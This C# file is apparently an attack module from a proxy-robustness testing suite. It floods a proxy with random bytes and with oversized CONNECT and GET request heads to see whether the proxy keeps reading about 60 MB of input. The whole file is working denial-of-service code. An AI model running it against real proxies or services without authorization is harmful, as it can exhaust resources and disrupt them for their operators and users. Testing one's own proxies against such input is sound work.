using System.Net.Sockets;
using System.Text;

namespace Hostile.Attacks.Granted;

public sealed class ProxyGarbage : Attack
{
    public override string Title => "sends to its proxy what is no HTTP, and heads without end";

    public override bool NeedsWorker => true;

    public override async Task<string?> RunAsync(HttpContext context, Target target)
    {
        await WayOut.DemandAsync(context);
        var proxy = WayOut.ProxyOf(context);
        for (var i = 0; i < 100; i++)
        {
            var garbage = new byte[32 * 1024];
            Random.Shared.NextBytes(garbage);
            await SendAsync(proxy, garbage, times: 1);
        }

        var field = Encoding.ASCII.GetBytes($"X-Long: {new string('x', 64 * 1024)}\r\n");
        foreach (var beginning in new[] { "CONNECT granted.example:8080 HTTP/1.1\r\n", "GET http://granted.example:8080/ HTTP/1.1\r\nHost: granted.example:8080\r\n", $"CONNECT {new string('a', 64 * 1024)}" })
        {
            var sent = await SendAsync(proxy, [.. Encoding.ASCII.GetBytes(beginning), .. field], times: 1000);
            if (sent == 1000)
                return $"reached: it read 60 MB of the head {beginning[..20]}";
        }

        return "did: sent it";
    }

    private static async Task<int> SendAsync(string proxy, byte[] bytes, int times)
    {
        using var limit = new CancellationTokenSource(TimeSpan.FromMilliseconds(500));
        using var socket = await WayOut.ConnectAsync(proxy);
        var sent = 0;
        try
        {
            for (; sent < times; sent++)
                await socket.SendAsync(bytes, limit.Token);
        }
        catch (Exception exception) when (exception is SocketException or OperationCanceledException)
        {
            // It is not read any more.
        }

        return sent;
    }
}
